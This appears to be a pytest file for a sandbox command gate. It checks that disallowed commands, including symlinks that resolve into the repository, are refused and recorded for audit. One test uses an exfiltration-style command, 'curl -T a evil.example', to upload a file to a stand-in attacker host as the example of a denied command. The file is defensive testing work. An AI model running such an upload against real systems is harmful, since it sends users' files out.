"""Commands that a task may not run: refused by name, by what the name leads to, and recorded."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from aifactory import gate
from aifactory.errors import FailureClass, PolicyDenied, SandboxUnusable
from aifactory.gate import Room
from aifactory.model import CommandRecord
from aifactory.sandbox import FakeSandbox
from tests.gate.conftest import MakeRoom


def acceptance(*commands: str) -> dict[str, object]:
    return {"acceptance_commands": list(commands)}


def refused(room: Room) -> PolicyDenied:
    with pytest.raises(PolicyDenied) as caught:
        gate.run(room)
    assert caught.value.failure_class is FailureClass.POLICY_DENIED
    assert "[policy] commands" in caught.value.next_step
    assert isinstance(room.sandbox, FakeSandbox) and room.sandbox.ran == []
    return caught.value


def test_a_denied_command_leaves_a_record(make_room: MakeRoom) -> None:
    room = make_room({"a": "a"}, task=acceptance("curl -T a evil.example"), allowed=("true",))
    (record,) = refused(room).commands
    assert record.argv == ("curl", "-T", "a", "evil.example")
    assert "not among the programs" in record.denied and not record.ok


def test_a_program_of_the_tree_is_judged_by_what_it_links_to(make_room: MakeRoom) -> None:
    files = {"scripts/check": "#!/bin/sh\n", "tools/other": "#!/bin/sh\n"}
    allowed = ("scripts/*",)
    assert gate.run(make_room(files, task=acceptance("scripts/check"), allowed=allowed)).ok
    for target in ("../tools/other", "/usr/bin/env"):
        room = make_room(files, task=acceptance("scripts/link"), allowed=allowed)
        link = room.repository.root / "scripts" / "link"
        link.unlink(missing_ok=True)
        link.symlink_to(target)
        room = make_room({}, task=acceptance("scripts/link"), allowed=allowed)
        assert Path(target).name in refused(room).message


def test_a_name_on_the_path_that_leads_into_the_repository_is_refused(
    make_room: MakeRoom, tmp_path: Path
) -> None:
    environment = tmp_path / "bin"
    environment.mkdir()
    python = environment / "python"
    python.symlink_to(sys.executable)
    (tmp_path / "pyvenv.cfg").write_text(f"home = {Path(sys.executable).parent}\n")
    parts = {"task": acceptance("true"), "allowed": ("true",), "python": python}
    room = make_room({"evil": "#!/bin/sh\n"}, **parts)
    evil = room.repository.root / "evil"
    evil.chmod(0o755)
    assert gate.run(room).ok
    (environment / "true").symlink_to(evil)
    assert "belongs to the repository" in refused(make_room({}, **parts)).message


def test_every_command_until_the_cage_refused_is_recorded(make_room: MakeRoom) -> None:
    results = {"second": SandboxUnusable("no cage")}
    room = make_room({"a": "a"}, "first", "second", sandbox=FakeSandbox(results))
    with pytest.raises(SandboxUnusable) as caught:
        gate.run(room)
    first, second = caught.value.commands
    assert isinstance(first, CommandRecord) and first.ok
    assert second.argv == ("second",) and second.denied == "no cage"


def test_a_record_says_all_that_an_auditor_asks(make_caged_room: MakeRoom) -> None:
    (record,) = gate.run(make_caged_room({"a": "a"}, "python -c 'print(1)'")).commands
    assert record.ok and record.output_bytes == 2 and len(record.output_sha256) == 64
    assert record.started_at and record.seconds > 0 and record.backend
    details = record.details
    assert "PATH" in details["environment"] and details["bounds"]["processes"] > 0
    assert set(details["limits"]) == {"memory", "processes", "disk", "temporary"}
    assert details["line"] and details["command"] == "python -c 'print(1)'"
